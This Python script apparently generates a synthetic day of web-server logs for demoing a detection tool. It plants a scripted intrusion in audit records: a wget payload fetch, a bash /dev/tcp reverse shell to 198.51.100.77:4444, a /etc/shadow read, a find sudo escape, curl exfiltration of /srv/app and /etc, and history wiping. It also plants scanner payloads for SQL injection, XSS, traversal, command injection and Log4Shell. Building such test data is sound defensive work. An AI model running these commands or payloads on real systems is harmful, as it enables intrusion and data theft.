"""Writes the recording that `vedette demo` and `make run` play: one invented day (2026-01-15) of one web server.

An ordinary day of logins, cron jobs, visitors, updates and firewall noise, and in it four things to find:

    03:12  203.0.113.45 guesses passwords on sshd, gets in as deploy at 03:24, becomes root with sudo, fetches a file,
           opens a shell to 198.51.100.77:4444, adds an account, and sends data there until 03:58
    11:05  203.0.113.99 scans the web server
    14:02  198.51.100.7 fails to log in seven times
    16:40  203.0.113.150 tries the ports of the host

The same day comes out each time: `python bench/make_demo.py` writes src/vedette/rules/demo/recording/ anew.
Addresses are those reserved for documentation (RFC 5737, RFC 3849).
"""

import random
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import NamedTuple

FOLDER = Path(__file__).parents[1] / "src" / "vedette" / "rules" / "demo" / "recording"
HOST, ADDRESS = "web1", "192.0.2.10"
MIDNIGHT = datetime(2026, 1, 15, tzinfo=UTC)
INTRUDER, LISTENER = "203.0.113.45", "198.51.100.77"
SCANNER, GUESSER, KNOCKER = "203.0.113.99", "198.51.100.7", "203.0.113.150"
STAFF = {"anna": "192.0.2.21", "ben": "192.0.2.34", "carla": "2001:db8:20::c"}
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
PHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 Version/18.2 Mobile/15E148"
CRAWLER = "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.net/)"
FLOW = "timestamp,source_ip,destination_ip,destination_port,protocol,bytes_transferred"
ESCAPE = "/usr/bin/find /srv -exec /bin/sh ; -quit"
HOME = "home=/home/support2, shell=/bin/bash, from=/dev/pts/1"
COMMANDS = [
    "/usr/bin/apt update", "/usr/bin/systemctl reload nginx", "/usr/bin/journalctl -u nginx",
    "/usr/bin/tail /var/log/nginx/error.log",
]  # fmt: skip
SYSCALL = (
    "type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=0 items=2 ppid={parent}"
    " pid={pid} auid={user} uid={user} gid={user} euid={user} suid={user} fsuid={user} egid={user} sgid={user}"
    ' fsgid={user} tty=pts1 ses=9 comm="{name}" exe="{program}" subj=unconfined key="exec"'
)
PACKET = (
    "[{uptime:.6f}] [UFW BLOCK] IN=eth0 OUT= MAC=00:00:5e:00:53:10:00:00:5e:00:53:01:08:00 SRC={source} DST={target}"
    " LEN=40 TOS=0x00 PREC=0x00 TTL={ttl} ID={number} PROTO=TCP SPT={source_port} DPT={port} WINDOW=1024 RES=0x00"
    " SYN URGP=0"
)


class Line(NamedTuple):
    """One record: when it was written, and its text."""

    at: datetime
    text: str


def at(clock: str) -> datetime:
    """`03:12:05` of the day."""
    hours, minutes, seconds = (int(part) for part in clock.split(":"))
    return MIDNIGHT + timedelta(hours=hours, minutes=minutes, seconds=seconds)


def syslog(when: datetime, program: str, message: str) -> Line:
    """A line as rsyslog writes it with RFC 3339 times."""
    return Line(when, f"{when.isoformat()} {HOST} {program}: {message}")


def sessions(dice: random.Random) -> Iterator[Line]:
    """Staff at work: logins by key, a few mistyped passwords, sudo for updates and restarts."""
    pid = 1200
    for user, address in STAFF.items():
        for hour in dice.sample(range(7, 18), 4):
            pid += dice.randrange(3, 40)
            when = MIDNIGHT + timedelta(hours=hour, seconds=dice.randrange(3000))
            daemon, who = f"sshd[{pid}]", f"{user}(uid=100{len(user)})"
            peer = f"from {address} port {dice.randrange(40000, 60000)}"
            if user == "ben" and hour % 2:
                for late in (20, 11):
                    yield syslog(when - timedelta(seconds=late), daemon, f"Failed password for ben {peer} ssh2")
                yield syslog(when, daemon, f"Accepted password for ben {peer} ssh2")
            else:
                key = f"ED25519 SHA256:{dice.randbytes(16).hex()}"
                yield syslog(when, daemon, f"Accepted publickey for {user} {peer} ssh2: {key}")
            yield syslog(when, daemon, f"pam_unix(sshd:session): session opened for user {who} by (uid=0)")
            yield syslog(when, "systemd-logind[611]", f"New session {pid - 1100} of user {user}.")
            if hour % 3 == 0:
                asked, done = when + timedelta(seconds=90), when + timedelta(seconds=97)
                place = f"TTY=pts/0 ; PWD=/home/{user} ; USER=root"
                yield syslog(asked, "sudo", f"   {user} : {place} ; COMMAND={dice.choice(COMMANDS)}")
                yield syslog(asked, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {who}")
                yield syslog(done, "sudo", "pam_unix(sudo:session): session closed for user root")
            end = when + timedelta(seconds=dice.randrange(400, 5000))
            yield syslog(end, daemon, f"pam_unix(sshd:session): session closed for user {user}")
            yield syslog(end, f"sshd[{pid + 1}]", f"Received disconnect {peer}:11: disconnected by user")


def strangers(dice: random.Random) -> Iterator[Line]:
    """What every host on the internet sees: single guesses and banner grabs, each from another address."""
    for number in range(60):
        when = MIDNIGHT + timedelta(seconds=dice.randrange(86000))
        peer = f"{dice.choice(['203.0.113', '198.51.100'])}.{160 + number} port {40000 + number}"
        said = f"Connection closed by {peer} [preauth]" if number % 3 else f"Failed password for root from {peer} ssh2"
        yield syslog(when, f"sshd[{5000 + number}]", said)


def cron(dice: random.Random) -> Iterator[Line]:
    """Jobs of the system, as cron tells of them."""
    for minute in range(5, 24 * 60, 10):
        when = MIDNIGHT + timedelta(minutes=minute, seconds=1)
        pid = 2000 + minute
        yield syslog(when, f"CRON[{pid}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        yield syslog(when, f"CRON[{pid}]", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)")
        end = when + timedelta(seconds=dice.randrange(1, 3))
        yield syslog(end, f"CRON[{pid}]", "pam_unix(cron:session): session closed for user root")
    for hour in range(24):
        when = MIDNIGHT + timedelta(hours=hour, minutes=17, seconds=1)
        yield syslog(when, f"CRON[{4000 + hour}]", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)")


def guessing() -> Iterator[Line]:
    """The intruder's way in, and the seven attempts of another one."""
    names = ["root", "admin", "deploy", "oracle", "ubuntu", "git", "postgres"]
    for number in range(84):
        when = at("03:12:05") + timedelta(seconds=8 * number)
        name = names[number % len(names)]
        daemon, peer = f"sshd[{7000 + number}]", f"from {INTRUDER} port {41000 + number}"
        stranger = "" if name in ("root", "deploy") else "invalid user "
        if stranger:
            yield syslog(when, daemon, f"Invalid user {name} {peer}")
        yield syslog(when + timedelta(seconds=2), daemon, f"Failed password for {stranger}{name} {peer} ssh2")
    for clock, program, message in (
        ("03:24:11", "sshd[7101]", f"Accepted password for deploy from {INTRUDER} port 41188 ssh2"),
        ("03:24:11", "sshd[7101]", "pam_unix(sshd:session): session opened for user deploy(uid=1004) by (uid=0)"),
        ("03:24:58", "sudo", f"  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND={ESCAPE}"),
        ("03:24:58", "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1004)"),
        ("03:31:40", "useradd[7144]", f"new user: name=support2, UID=1009, GID=1009, {HOME}"),
        ("03:31:52", "usermod[7151]", "add 'support2' to group 'sudo'"),
        ("03:58:20", "sshd[7101]", "pam_unix(sshd:session): session closed for user deploy"),
    ):
        yield syslog(at(clock), program, message)
    for number in range(7):
        when = at("14:02:10") + timedelta(seconds=7 * number)
        said = f"Failed password for root from {GUESSER} port {52000 + number} ssh2"
        yield syslog(when, f"sshd[{8000 + number}]", said)


def execution(when: datetime, serial: int, user: int, program: str, arguments: list[str]) -> Iterator[Line]:
    """One execve as auditd writes it: arguments with spaces in hexadecimal."""
    stamp = f"msg=audit({when.timestamp():.3f}:{serial}):"
    name = program.rpartition("/")[2]
    told = " ".join(f"a{i}={_argument(text)}" for i, text in enumerate(arguments))
    numbers = {"user": user, "parent": 3000 + serial % 500, "pid": 3001 + serial % 500}
    yield Line(when, SYSCALL.format(stamp=stamp, name=name, program=program, **numbers))
    yield Line(when, f"type=EXECVE {stamp} argc={len(arguments)} {told}")
    yield Line(when, f'type=CWD {stamp} cwd="/"')


def _argument(text: str) -> str:
    return f'"{text}"' if text.isascii() and not set(text) & set(' "\t') else text.encode().hex().upper()


def executions(dice: random.Random) -> Iterator[Line]:
    """Programs that were run: cron's and the staff's all day, the intruder's at night."""
    serial = 1000
    usual = [
        ("/usr/bin/dash", ["sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"]),
        ("/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"]),
        ("/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
        ("/usr/bin/curl", ["curl", "-fsS", "http://localhost:8080/health"]),
        ("/usr/bin/systemctl", ["systemctl", "reload", "nginx"]),
        ("/usr/bin/apt-get", ["apt-get", "-qq", "update"]),
        ("/usr/bin/ls", ["ls", "-la", "/srv"]),
        ("/usr/bin/cat", ["cat", "/etc/os-release"]),
        ("/usr/bin/git", ["git", "-C", "/srv/app", "pull", "--ff-only"]),
        ("/usr/bin/rsync", ["rsync", "-a", "/srv/app/", "/var/backups/app/"]),
    ]
    for _ in range(170):
        serial += dice.randrange(1, 9)
        when = MIDNIGHT + timedelta(seconds=dice.randrange(86000), milliseconds=dice.randrange(1000))
        yield from execution(when, serial, 0, *dice.choice(usual))
    for number, (clock, user, program, arguments) in enumerate(
        (
            ("03:24:30", 1004, "/usr/bin/id", ["id"]),
            ("03:25:02", 0, "/usr/bin/cat", ["cat", "/etc/shadow"]),
            ("03:26:15", 0, "/usr/bin/wget", ["wget", "-q", f"http://{LISTENER}/k.sh", "-O", "/tmp/.k.sh"]),
            ("03:26:40", 0, "/usr/bin/chmod", ["chmod", "+x", "/tmp/.k.sh"]),
            ("03:27:05", 0, "/usr/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/{LISTENER}/4444 0>&1"]),
            ("03:33:10", 0, "/usr/bin/tar", ["tar", "czf", "/tmp/.d.tgz", "/srv/app", "/etc"]),
            ("03:35:00", 0, "/usr/bin/curl", ["curl", "-s", "-T", "/tmp/.d.tgz", f"http://{LISTENER}:4444/up"]),
            ("03:57:30", 0, "/usr/bin/rm", ["rm", "-f", "/root/.bash_history"]),
        )
    ):
        yield from execution(at(clock), 90000 + number, user, program, list(arguments))


def request(when: datetime, client: str, ask: str, answer: tuple[int, int], agent: str, *, referrer: str = "-") -> Line:
    """A line of nginx in combined form; `answer` is status and size."""
    status, size = answer
    stamp = f"{when:%d/%b/%Y:%H:%M:%S} +0000"
    return Line(when, f'{client} - - [{stamp}] "{ask} HTTP/1.1" {status} {size} "{referrer}" "{agent}"')


def visits(dice: random.Random) -> Iterator[Line]:
    """Visitors with their pictures, a crawler, a health check, old links, one forgotten password."""
    pages = ["/", "/products/", "/products/42", "/blog/", "/blog/winter-sale", "/about", "/contact", "/cart"]
    for number in range(240):
        when = MIDNIGHT + timedelta(seconds=int(86000 * dice.betavariate(3, 2.4)))
        client = f"2001:db8:{number:x}::17" if number % 5 == 0 else f"192.0.2.{dice.randrange(60, 250)}"
        agent = dice.choice([FIREFOX, PHONE])
        for late in range(dice.randrange(1, 4)):
            moment = when + timedelta(seconds=25 * late)
            page = dice.choice(pages)
            yield request(moment, client, f"GET {page}", (200, dice.randrange(2000, 30000)), agent)
            soon, here = moment + timedelta(seconds=1), f"https://www.example.com{page}"
            for asset in dice.sample(["/static/site.css", "/static/site.js", "/img/logo.svg", "/img/hero.webp"], 2):
                yield request(soon, client, f"GET {asset}", (dice.choice([200, 304]), 900), agent, referrer=here)
        if number % 17 == 0:
            yield request(when + timedelta(seconds=2), client, "GET /favicon.ico", (404, 153), agent)
        if number % 23 == 0:
            old = "GET /old/offer-2019.html"
            yield request(
                when + timedelta(seconds=3), client, old, (404, 153), agent, referrer="https://www.example.org/links"
            )
        if number % 29 == 0:
            yield request(when + timedelta(seconds=60), client, "POST /account/login", (401, 310), agent)
            yield request(when + timedelta(seconds=75), client, "POST /account/login", (302, 0), agent)
    for number in range(80):
        when = MIDNIGHT + timedelta(seconds=1070 * number)
        yield request(when, "192.0.2.201", f"GET {pages[number % len(pages)]}", (200, 4096), CRAWLER)
    yield request(at("04:10:00"), "192.0.2.201", "GET /robots.txt", (200, 68), CRAWLER)


def scan() -> Iterator[Line]:
    """A web scanner at work: a list of names first, then attack code."""
    tool = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
    names = [
        "/.env", "/.git/config", "/backup.zip", "/db.sql.gz", "/wp-login.php", "/phpmyadmin/index.php", "/admin.php",
        "/server-status", "/cgi-bin/test.cgi", "/manager/html", "/config.php.bak", "/.aws/credentials", "/shell.php",
        "/actuator/heapdump", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/cores", "/HNAP1/",
    ]  # fmt: skip
    codes = [
        "/products/42?id=1%27+UNION+SELECT+1,2,3--+-", "/products/42?id=1%20AND%20SLEEP(5)",
        "/search?q=<script>alert(1)</script>", "/download?f=../../../../etc/passwd",
        "/ping?host=127.0.0.1;wget+http://203.0.113.99/x.sh", "/?x=${jndi:ldap://203.0.113.99:1389/a}",
        "/products/42?id=-1/**/union/**/select/**/1,version()", "/page?name={{7*7}}",
    ]  # fmt: skip
    for number, name in enumerate(names + [f"/guess{n:02d}/" for n in range(45)]):
        yield request(at("11:05:00") + timedelta(seconds=2 * number), SCANNER, f"GET {name}", (404, 153), tool)
    for number, code in enumerate(codes):
        yield request(at("11:09:00") + timedelta(seconds=5 * number), SCANNER, f"GET {code}", (404, 153), FIREFOX)


def packet(when: datetime, source: str, port: int, dice: random.Random) -> Line:
    """A blocked packet as ufw logs it."""
    text = PACKET.format(
        uptime=(when - MIDNIGHT).total_seconds() + 81234, source=source, target=ADDRESS, ttl=dice.randrange(40, 250),
        number=dice.randrange(65536), source_port=dice.randrange(30000, 61000), port=port,
    )  # fmt: skip
    return syslog(when, "kernel", text)


def packets(dice: random.Random) -> Iterator[Line]:
    """The background of the internet, and one address that tries port after port."""
    for number in range(200):
        when = MIDNIGHT + timedelta(seconds=dice.randrange(86000))
        source = f"{dice.choice(['203.0.113', '198.51.100'])}.{160 + number % 90}"
        yield packet(when, source, dice.choice([23, 445, 3389, 5060, 8080, 6379, 2323]), dice)
    for number in range(40):
        yield packet(at("16:40:00") + timedelta(seconds=3 * number), KNOCKER, 20 + 13 * number, dice)


def flows(dice: random.Random) -> Iterator[Line]:
    """Connections as a flow exporter tells of them: visitors, name lookups, updates, and the intruder's channel."""

    def row(when: datetime, source: str, target: str, service: str, size: int) -> Line:
        return Line(when, f"{when:%Y-%m-%dT%H:%M:%SZ},{source},{target},{service},{size}")

    for _ in range(420):
        when = MIDNIGHT + timedelta(seconds=dice.randrange(86000))
        yield row(when, f"192.0.2.{dice.randrange(60, 250)}", ADDRESS, "443,tcp", int(dice.lognormvariate(9, 1)))
    for _ in range(120):
        when = MIDNIGHT + timedelta(seconds=dice.randrange(86000))
        yield row(when, ADDRESS, "192.0.2.53", "53,udp", dice.randrange(90, 400))
    for hour in range(0, 24, 6):
        when = MIDNIGHT + timedelta(hours=hour, minutes=31)
        yield row(when, ADDRESS, "192.0.2.80", "443,tcp", dice.randrange(10**6, 10**7))
    for number in range(30):
        size = 48_000_000 if number == 8 else dice.randrange(300, 4000)
        yield row(at("03:27:05") + timedelta(seconds=60 * number), ADDRESS, LISTENER, "4444,tcp", size)


def write(name: str, lines: Iterable[Line], header: str = "") -> int:
    """One file of the recording, in order of time; returns how many records it holds."""
    ordered = [line.text for line in sorted(lines, key=lambda line: line.at)]
    text = "\n".join([header, *ordered] if header else ordered) + "\n"
    (FOLDER / name).write_text(text)
    return len(ordered)


def main() -> None:
    FOLDER.mkdir(parents=True, exist_ok=True)
    dice = random.Random(20260115)
    written = {
        "auth.log": write("auth.log", [*sessions(dice), *strangers(dice), *cron(dice), *guessing()]),
        "audit.log": write("audit.log", executions(dice)),
        "access.log": write("access.log", [*visits(dice), *scan()]),
        "kern.log": write("kern.log", packets(dice)),
        "flows.csv": write("flows.csv", flows(dice), FLOW),
    }
    print(", ".join(f"{name} {count}" for name, count in written.items()), "=", sum(written.values()))


if __name__ == "__main__":
    main()
